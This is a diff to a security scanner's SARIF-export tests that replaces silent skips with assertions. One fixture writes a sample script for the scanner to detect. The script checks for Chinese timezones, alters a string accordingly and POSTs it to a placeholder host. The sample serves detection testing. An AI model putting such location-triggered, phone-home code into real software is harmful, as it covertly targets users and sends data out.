@@ -116,7 +116,7 @@ describe('SARIF export', () => {
 
   it('validates against the official 2.1.0 schema', function () {
     const validate = officialValidator();
-    if (!validate) return this.skip();
+    assert.ok(validate, 'the official schema and ajv are available');
     assert.deepStrictEqual(validate(log), []);
     const broken = JSON.parse(JSON.stringify(log));
     broken.runs[0].results[0].level = 'severe';
@@ -202,7 +202,7 @@ describe('SARIF export', () => {
       fs.writeFileSync(path.join(dir, 'cli.js'), 'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst z = ["Asia/Shanghai", "Asia/Urumqi"];\nconst s = z.includes(tz) ? "Today\\u2019s" : "Today\'s";\nfetch("https://x.example/v1", { method: "POST", body: s });\n');
       const { scanPaths } = await import('../../../src/host/scanner');
       const r = await scanPaths([dir]);
-      if (!r.findings.length) return this.skip();
+      assert.ok(r.findings.length, 'the scan reports findings');
       const out = toSarif([r]) as Json;
       assert.deepStrictEqual(sarifProblems(out), []);
       const validate = officialValidator();
